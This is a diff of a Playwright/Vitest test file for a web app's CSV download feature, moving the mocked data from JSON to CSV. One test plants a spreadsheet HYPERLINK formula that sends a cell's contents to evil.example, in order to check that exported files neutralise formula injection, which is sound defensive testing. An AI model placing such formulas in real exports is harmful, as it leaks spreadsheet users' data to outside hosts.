@@ -2,6 +2,7 @@ import { readFileSync } from 'node:fs';
 import { parse } from 'csv-parse/sync';
 import type { Page } from 'playwright-core';
 import { describe, expect, test } from 'vitest';
+import { toCsv, unguard } from '../../src/exchange/csv/write-csv.ts';
 import { useBrowser } from './browser.ts';
 import { listedOn } from './listed.ts';
 import { commonest, has, idsOf, plans } from './plan-from-files.ts';
@@ -64,11 +65,12 @@ describe.each(plans)('of $id', ({ id, term, actions }) => {
 test('what a spreadsheet could run is harmless in the file', async () => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
   await browser.open('/', async (page) => {
-    await page.route('**/data/actions.json', async (route) => {
+    await page.route('**/data/actions.csv', async (route) => {
       const response = await route.fetch();
-      const records = (await response.json()) as { id: string; text: string }[];
-      const changed = records.map((record) => (record.id === '1.2-05' ? { ...record, text: formula } : record));
-      await route.fulfill({ response, json: changed });
+      const [header = [], ...rows] = parse(await response.text(), { bom: true }).map((row) => row.map(unguard));
+      const text = header.indexOf('text');
+      const changed = rows.map((row) => (row[0] === '1.2-05' ? row.with(text, formula) : row));
+      await route.fulfill({ response, body: toCsv(header, changed) });
     });
     await page.goto('/leeds/actions/?q=1.2-05');
     const { text } = await download(page, 'CSV');
@@ -79,7 +81,7 @@ test('what a spreadsheet could run is harmless in the file', async () => {
 
 test('a reader whose connection is gone is told so', async () => {
   await browser.open('/leeds/actions/?owner=courts', async (page) => {
-    await page.route('**/data/actions.json', (route) => route.abort());
+    await page.route('**/data/actions.csv', (route) => route.abort());
     await page.getByRole('link', { name: 'Download this list (CSV)' }).click();
     await expect.poll(() => page.getByRole('alert').innerText()).toContain('The file could not be made.');
   });
